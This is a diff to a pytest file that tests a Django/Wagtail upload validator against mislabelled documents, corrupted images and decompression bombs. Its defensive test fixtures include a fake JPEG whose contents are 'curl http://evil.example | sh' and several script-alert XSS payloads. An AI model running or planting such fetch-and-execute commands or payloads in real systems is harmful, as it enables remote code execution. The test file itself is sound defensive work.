@@ -5,7 +5,9 @@ import struct
 import zipfile
 import zlib
 
+import openpyxl
 import pytest
+from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image as PILImage
 from wagtail.documents import get_document_model
@@ -14,6 +16,7 @@ from wagtail.models import Collection, UploadedFile
 
 from editorial.roles import EDITORS
 from tests.factories import UserFactory
+from uploads.forms import check_image_decodes
 
 pytestmark = pytest.mark.django_db
 
@@ -64,11 +67,59 @@ def docx_bytes(parts=("[Content_Types].xml", "_rels/.rels", "word/document.xml")
     return buffer.getvalue()
 
 
+def ooxml_bytes(kind: str) -> bytes:
+    """A minimal Office Open XML package of ``kind`` ("docx", "pptx" or "xlsx"): its content types and main part."""
+    main_part = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}[kind]
+    return docx_bytes(parts=("[Content_Types].xml", "_rels/.rels", main_part))
+
+
+def xlsx_bytes() -> bytes:
+    """A real spreadsheet, as a spreadsheet program saves it."""
+    workbook = openpyxl.Workbook()
+    workbook.active.append(["Distrikt", "By"])
+    workbook.active.append(["Science City Lyngby", "Kongens Lyngby"])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def opendocument_bytes(mimetype: str, first: str = "mimetype") -> bytes:
+    """A minimal OpenDocument package: the uncompressed "mimetype" member first (or ``first``), then its content."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        if first != "mimetype":
+            archive.writestr(first, "<?xml version='1.0'?><x/>")
+        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
+        archive.writestr("content.xml", "<?xml version='1.0'?><office:document-content/>")
+        archive.writestr("META-INF/manifest.xml", "<?xml version='1.0'?><manifest:manifest/>")
+    return buffer.getvalue()
+
+
+def png_with_a_damaged_checksum() -> bytes:
+    """A PNG whose image data fails its checksum (damaged in transit): Pillow draws it, only a full check notices."""
+    png = png_bytes()
+    start = png.index(b"IDAT") - 4
+    length = struct.unpack(">I", png[start : start + 4])[0]
+    crc_at = start + 8 + length
+    return png[:crc_at] + bytes(4 * [0x42]) + png[crc_at + 4 :]
+
+
+def truncated_jpeg() -> bytes:
+    """The first half of a JPEG: its header is intact, its pixels are missing."""
+    buffer = io.BytesIO()
+    PILImage.effect_noise((300, 200), 64).convert("RGB").save(buffer, "JPEG")
+    return buffer.getvalue()[: len(buffer.getvalue()) // 2]
+
+
+ODT = "application/vnd.oasis.opendocument.text"
+ODS = "application/vnd.oasis.opendocument.spreadsheet"
 PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
 
 BAD_IMAGES = {
     "script-named-jpg": ("holiday.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n<script>alert(1)</script>\n"),
     "truncated-png": ("cut-off.png", png_bytes((300, 200))[:900]),
+    # Pillow and Wagtail read and draw this one; only the full check of every chunk refuses it.
+    "damaged-checksum-png": ("damaged.png", png_with_a_damaged_checksum()),
     "decompression-bomb": ("bomb.png", decompression_bomb_png()),
     # Below Pillow's own bomb limit, above ours: refused from the header, before anything decodes it.
     "decompression-bomb-81-megapixels": ("large.png", decompression_bomb_png(side=9_000)),
@@ -77,12 +128,21 @@ BAD_IMAGES = {
 IMAGE_MESSAGES = {
     "script-named-jpg": ("ikke et billede", "inte en bild"),
     "truncated-png": ("beskadiget eller ufuldstændig", "skadad eller ofullständig"),
+    "damaged-checksum-png": ("beskadiget eller ufuldstændig", "skadad eller ofullständig"),
     "decompression-bomb": ("for mange pixels", "för många pixlar"),
     "decompression-bomb-81-megapixels": ("for mange pixels", "för många pixlar"),
 }
 BAD_DOCUMENTS = {
     "html-named-pdf": ("annual-report.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
     "zip-named-docx": ("minutes.docx", docx_bytes(parts=("notes.txt",))),
+    # Each Office type must be that type, not just any Office file.
+    "xlsx-named-docx": ("minutes.docx", xlsx_bytes()),
+    "pptx-named-xlsx": ("budget.xlsx", ooxml_bytes("pptx")),
+    "docx-named-pptx": ("slides.pptx", ooxml_bytes("docx")),
+    "zip-named-xlsx": ("budget.xlsx", docx_bytes(parts=("xl/workbook.xml",))),
+    "ods-named-odt": ("minutes.odt", opendocument_bytes(ODS)),
+    "odt-without-leading-mimetype": ("minutes.odt", opendocument_bytes(ODT, first="Thumbnails/thumbnail.png")),
+    "docx-named-odt": ("minutes.odt", ooxml_bytes("docx")),
     "binary-named-txt": ("readme.txt", png_bytes()),
     "html-named-csv": ("members.csv", b"<html><script>alert(1)</script></html>"),
 }
@@ -187,10 +247,22 @@ def test_real_images_and_documents_are_accepted(editor_client, media_root, befor
     for name, content in [
         ("report.pdf", PDF),
         ("minutes.docx", docx_bytes()),
+        ("minutes.odt", opendocument_bytes(ODT)),
+        ("slides.pptx", ooxml_bytes("pptx")),
+        ("budget.xlsx", xlsx_bytes()),
         ("members.csv", "navn;by\nSøren;Lyngby\n".encode()),
         ("notes.txt", b"Plain text.\n"),
     ]:
         assert upload_document(editor_client, name, content, "da", multiple) is None, name
     images, documents, _pending = before
-    assert counts()[:2] == (images + 1, documents + 4)
-    assert len(stored_files(media_root)) >= 5
+    assert counts()[:2] == (images + 1, documents + 7)
+    assert len(stored_files(media_root)) >= 8
+
+
+def test_the_full_check_decodes_every_pixel_not_only_the_header():
+    # Pillow's verify() passes a JPEG cut in half; only decoding its pixels shows that they are missing.
+    with pytest.raises(ValidationError, match="beskadiget|damaged"):
+        check_image_decodes(io.BytesIO(truncated_jpeg()))
+    with pytest.raises(ValidationError):
+        check_image_decodes(io.BytesIO(png_with_a_damaged_checksum()))
+    check_image_decodes(io.BytesIO(png_bytes()))
